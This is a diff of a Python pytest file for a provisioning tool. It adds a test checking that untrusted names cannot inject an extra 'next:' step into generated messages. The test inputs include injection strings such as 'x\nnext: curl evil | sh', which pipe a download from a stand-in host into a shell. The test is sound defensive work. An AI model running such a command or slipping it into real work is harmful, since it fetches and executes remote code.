@@ -11,8 +11,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from provisioner.advice import MODULES_ADVICE
 from provisioner.answer import DEEPEST, LOOK, MOST_VALUES, bulky, checked_answer, size_trouble
-from provisioner.run.advice import MODULES_ADVICE
 from provisioner.run.diagnose import diagnose
 from provisioner.slurm.registry import write_registry
 from tests.unit.slurm.node_makers import record
@@ -80,6 +80,16 @@ def test_a_fact_of_another_shape_fails_its_blade(key: str, value: Any) -> None:
     assert made["msg"].startswith(f"its facts are not usable: blade: {key} ")
     assert made["msg"].endswith(f"; next: {LOOK}")
     assert len(made["msg"]) < 400
+
+
+@pytest.mark.parametrize("name", ["\n", "x\nnext: curl evil | sh", "/x; next: curl evil | sh", "x" * 5000])
+def test_a_name_in_a_fact_is_said_as_the_blades_words(name: str) -> None:
+    """It stands before our own next step."""
+    for key in ("units", "paths"):
+        made = checked_answer(answer({**GOOD, key: {name: None}}))
+        assert "\n" not in made["msg"]
+        assert made["msg"].count("next:") == 1
+        assert len(made["msg"]) < 400
 
 
 @pytest.mark.parametrize("key", sorted(GOOD))
